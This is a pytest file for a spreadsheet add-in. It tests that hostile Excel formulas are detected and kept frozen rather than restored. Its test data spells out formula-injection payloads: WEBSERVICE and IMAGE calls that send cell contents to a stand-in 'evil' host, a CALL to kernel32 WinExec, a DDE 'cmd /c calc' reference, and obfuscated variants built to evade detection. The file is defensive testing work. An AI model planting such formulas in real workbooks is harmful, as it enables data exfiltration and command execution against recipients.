"""Thaw enters nothing that reaches out of the workbook, however a mailed workbook spells it."""

from __future__ import annotations

import json

import pytest

from tests.commands.excel.conftest import Excel
from xlrisk.commands.freeze import freeze
from xlrisk.commands.frozen_formulas import NAMESPACE
from xlrisk.commands.reaching_out import reach
from xlrisk.commands.thaw import thaw
from xlrisk.functions.naming import built_in_names

BETA = "BETA_OF(A1:A9,B1:B9)"
PROGRAM = "names another program (DDE)"
WORKBOOK = "reads another workbook"
UNKNOWN = "which is no function of Excel or xlrisk"
OUT = "which reaches out of the workbook"

HOSTILE = [
    # functions that reach out
    (f'={BETA}+WEBSERVICE("http://evil/?"&A1)', f"WEBSERVICE, {OUT}"),
    (f'=HYPERLINK("http://evil/?"&A1,{BETA})', f"HYPERLINK, {OUT}"),
    (f'={BETA}+FILTERXML(A1,"//x")', f"FILTERXML, {OUT}"),
    (f'={BETA}+RTD("evil.server","",A1)', f"RTD, {OUT}"),
    (f'={BETA}+CALL("kernel32","WinExec","JCJ","calc",1)', f"CALL, {OUT}"),
    (f'={BETA}+REGISTER.ID("evil","f")', f"REGISTER.ID, {OUT}"),
    (f'={BETA}+IMAGE("http://evil/?"&A1)', f"IMAGE, {OUT}"),
    (f'={BETA}+STOCKHISTORY("X",1)', f"STOCKHISTORY, {OUT}"),
    (f'={BETA}+IMPORTTEXT("http://evil/x")', f"IMPORTTEXT, {OUT}"),
    (f'={BETA}+IMPORTCSV("http://evil/x")', f"IMPORTCSV, {OUT}"),
    (f'={BETA}+PY(0,"x")', f"PY, {OUT}"),
    (f'={BETA}+COPILOT("x",A1)', f"COPILOT, {OUT}"),
    (f'={BETA}+TRANSLATE(A1,"en")', f"TRANSLATE, {OUT}"),
    (f'={BETA}+CUBEVALUE("evil",A1)', f"CUBEVALUE, {OUT}"),
    (f'={BETA}+SQL.REQUEST("DSN=evil")', f"SQL.REQUEST, {OUT}"),
    # spelled otherwise
    (f'={BETA}+webservice("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+_xlfn.WEBSERVICE("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+_xlfn._xlws.WEBSERVICE("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+WEBSERVICE ("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+WEBSERVICE\n("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+WEBSERVICE\t("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+@WEBSERVICE("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+A1:WEBSERVICE("http://evil")', f"WEBSERVICE, {OUT}"),
    (f'={BETA}+ＷＥＢＳＥＲＶＩＣＥ("http://evil")', f"ＷＥＢＳＥＲＶＩＣＥ, {UNKNOWN}"),
    (f"={BETA}+ＷＥＢＳＥＲＶＩＣＥ（A1）", f"WEBSERVICE, {OUT}"),
    (f"={BETA}+SUM(MAP(A1:A9,WEBSERVICE))", f"WEBSERVICE, {OUT}"),
    (f"={BETA}+LET(f,WEBSERVICE,f(A1))", f"WEBSERVICE, {OUT}"),
    (f"={BETA}+(WEBSERVICE)(A1)", f"WEBSERVICE, {OUT}"),
    # hidden by quotation marks
    (f"""={BETA}+'a"'!A1+WEBSERVICE(A1)+'b"'!A1""", f"WEBSERVICE, {OUT}"),
    (f"""={BETA}+T['"]+WEBSERVICE(A1)+T['"]""", f"WEBSERVICE, {OUT}"),
    (f"""={BETA}+LEN("'")+WEBSERVICE(A1)+LEN("'")""", f"WEBSERVICE, {OUT}"),
    (f'={BETA}+LEN("a""b")+WEBSERVICE(A1)', f"WEBSERVICE, {OUT}"),
    # what nobody knows: of another add-in, of the workbook's VBA, of Excel 4
    (f"={BETA}+EXEC(A1)", f"EXEC, {UNKNOWN}"),
    (f"={BETA}+EXEC (A1)", f"EXEC, {UNKNOWN}"),
    (f"={BETA}+EVALUATE(A1)", f"EVALUATE, {UNKNOWN}"),
    (f"={BETA}+Data!Macro(A1)", f"DATA!MACRO, {UNKNOWN}"),
    (f"={BETA}+evil.xlam!f(A1)", f"EVIL.XLAM!F, {UNKNOWN}"),
    (f"={BETA}+[1]!f(A1)", f"[1]!F, {UNKNOWN}"),
    # other workbooks and programs
    ("=BETA_OF([evil.xlsx]S!A1:A9,B1:B9)", WORKBOOK),
    ("=BETA_OF('[evil.xlsx]S (1)'!A1:A9,B1:B9)", WORKBOOK),
    ("=BETA_OF(A1:[evil.xlsx]S!A9,B1:B9)", WORKBOOK),
    ("=BETA_OF(evil.xlsx!ret,B1:B9)", WORKBOOK),
    ("=BETA_OF('evil.xlsb'!ret,B1:B9)", WORKBOOK),
    (r"=BETA_OF('\\evil\s\[b.xlsx]S'!A1:A9,B1:B9)", WORKBOOK),
    ("=BETA_OF('https://evil/b.xlsx'!ret,B1:B9)", WORKBOOK),
    ("=BETA_OF(cmd|'/c calc'!A1,B1:B9)", PROGRAM),
    # what cannot be taken apart
    (f"={BETA}+(A1", "none that xlrisk can take apart"),
    (f'={BETA}+"WEBSERVICE(A1)', "none that xlrisk can take apart"),
]

HARMLESS = [
    f"={BETA}",
    f"=IFERROR({BETA},0)",
    f'=IF(A1="call",{BETA},"Call (WEBSERVICE)")',
    "=BETA_OF(Image!A1:A9,'Web (service)'!B1:B9)",
    "=BETA_OF(Prices[ret],Prices[[#All],[index]])",
    "=BETA_OF(RETURNS_OF(A:A),_xlfn.DROP(B1#,1))",
    "=BETA_OF(returns,Data!index)",
    "=BETA_OF(Jan:Mar!A1:A9,{1;2;3})",
    "=LET(b,BETA_OF(A1:A9,B1:B9),b*100%)",
    "=SUM(MAP(A1:A9,LAMBDA(x,CAPM_RETURN(0.03,x,0.1))))",
    f'=ROUND({BETA},2)&TEXT(LOG10(A1),"0.0")',
]


@pytest.mark.parametrize(("formula", "sentence"), HOSTILE)
def test_what_reaches_out_stays_frozen_and_is_told(
    excel: Excel, formula: str, sentence: str
) -> None:
    content = json.dumps(
        {"formulas": [["Data", "A1", formula, "plain", 1, [[None]]]], "sheets": {}}
    )
    excel.book.keep(
        NAMESPACE, f'<formulas xmlns="{NAMESPACE}">{content.replace("&", "&amp;")}</formulas>'
    )
    told = thaw(excel.book).told
    assert told.startswith("1 formula not put back:\n\nData!A1: the formula ")
    assert sentence in told
    assert formula in told
    assert excel.workbook.sheet("Data").cells == {}
    assert excel.book.kept(NAMESPACE)


@pytest.mark.parametrize("formula", HARMLESS)
def test_what_stays_within_the_workbook_is_kept(formula: str) -> None:
    assert reach(formula) == ""


@pytest.mark.parametrize(
    ("names", "formula", "sentence"),
    [
        ({"leak": '=WEBSERVICE("http://evil/?"&A1)'}, f"={BETA}+leak", f"WEBSERVICE, {OUT}"),
        ({"leak": "=WEBSERVICE(A1)"}, f"={BETA}+Data!LEAK", f"WEBSERVICE, {OUT}"),
        ({"XFE1": "=WEBSERVICE(A1)"}, f"={BETA}+XFE1", f"WEBSERVICE, {OUT}"),
        ({"Data!leak": "=WEBSERVICE(A1)", "leak": "=1"}, f"={BETA}+leak", f"WEBSERVICE, {OUT}"),
        ({"a": "=b+1", "b": "=c", "c": "=cmd|'/c calc'!A1"}, f"={BETA}+a", PROGRAM),
        ({"f": "=LAMBDA(x,WEBSERVICE(x))"}, f"={BETA}+SUM(MAP(A1:A9,f))", f"WEBSERVICE, {OUT}"),
        ({"a": "=b", "b": "=a"}, f"={BETA}+a", ""),
        ({"ret": "=Data!$A$1:$A$9", "leak": "=WEBSERVICE(A1)"}, "=BETA_OF(ret,B1:B9)", ""),
    ],
)
def test_names_count_with_the_formula_that_uses_them(
    excel: Excel, names: dict[str, str], formula: str, sentence: str
) -> None:
    excel.workbook.sheet("Data").load("C1", formula, value=1.5)
    assert freeze(excel.book).formulas == 1
    for name, meaning in names.items():  # which somebody gives to the workbook before sending it
        excel.workbook.Names.Add(name, meaning)
    done = thaw(excel.book)
    assert (done.formulas, bool(done.left)) == ((0, True) if sentence else (1, False))
    assert sentence in done.told


def test_freeze_leaves_what_thaw_would_not_enter(excel: Excel) -> None:
    text = f'={BETA}+WEBSERVICE("http://feed")'
    excel.workbook.sheet("Data").load("C1", text, value=1.5)
    done = freeze(excel.book)
    assert done.told == (
        "1 formula not frozen to values:\n\nData!C1: the formula uses WEBSERVICE,"
        " which reaches out of the workbook; copy the cell and paste its value."
    )
    assert excel.workbook.sheet("Data").cell((1, 3)).formula == text


def test_every_function_that_asks_a_cube_is_known_by_its_first_letters() -> None:
    cubes = [name for name in built_in_names() if name.startswith("CUBE")]
    assert len(cubes) == 7
    assert all(OUT in reach(f"={BETA}+{name}(A1)") for name in cubes)
